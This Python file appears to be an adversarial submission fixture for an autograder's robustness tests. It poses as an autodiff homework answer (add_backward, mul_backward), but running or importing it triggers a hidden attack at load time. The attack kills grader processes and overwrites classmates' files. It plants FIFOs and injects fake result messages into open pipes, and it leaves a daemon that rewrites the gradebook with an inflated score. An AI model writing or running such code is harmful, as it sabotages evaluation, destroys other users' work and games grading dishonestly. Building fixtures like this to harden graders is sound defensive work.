"""Attack (harm to classmates and to the grader), run at load time and again in add_backward:
stop and kill every other grader child and the grader itself, overwrite classmates' files, plant
FIFOs in their work folders, write fake answers into every pipe it can open, leave a daemon that
edits the gradebook after the grader ends. Every answer is wrong: it must earn nothing."""

import glob
import os
import signal
import time


def _attack():
    me = os.getpid()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        # Only grader children and our parent: never anything else on the machine.
        if b"_child.py" in cmd or int(pid) == os.getppid():
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(pid), sig)
                except OSError:
                    pass
    for path in glob.glob("@BATCH@/*") + glob.glob("@BATCH@/*/*"):
        try:
            with open(path, "w") as f:
                f.write("def add_backward(a, b, out, dout):\n    return 0.0, 0.0\n")
        except OSError:
            pass
    for folder in glob.glob("/tmp/bpc-grade-*"):
        for name in ("out_1.txt", "out_load.txt", "out_start.txt"):
            try:
                os.mkfifo(os.path.join(folder, name))
            except OSError:
                pass
    fake = b'{"event":"result","seq":1,"result":{"answers":[{"value":{"__tuple__":[1.0,1.0]}}]}}\n'
    for fd_path in glob.glob("/proc/*/fd/*"):
        try:
            if os.readlink(fd_path).startswith("pipe:"):
                fd = os.open(fd_path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, fake * 20)
                os.close(fd)
        except OSError:
            pass
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(1.0)
            with open("@OUT@/gradebook.csv", "w") as f:
                f.write("student,status,score\nattacker,graded,1000\n")
            os._exit(0)
    except OSError:
        pass
    for name in ("gradebook.csv", "students", "batch.json"):
        try:
            os.makedirs(os.path.join("@OUT@", name, "x"))  # block the grader's own outputs with folders
        except OSError:
            pass
    for name in ("out_start.txt", "out_1.txt", "out_load.txt"):
        try:
            os.symlink("@SECRET@", name)
        except OSError:
            pass
    for folder in ("@PKG@", "@SITE@", "@SOLUTIONS@", "@OUT@"):
        try:
            with open(os.path.join(folder, "pwned.txt"), "w") as f:
                f.write("pwned")
        except OSError:
            pass
    return 0


def add_backward(a, b, out, dout, _=_attack()):
    _attack()
    return 0.0, 0.0


def mul_backward(a, b, out, dout):
    return 0.0, 0.0
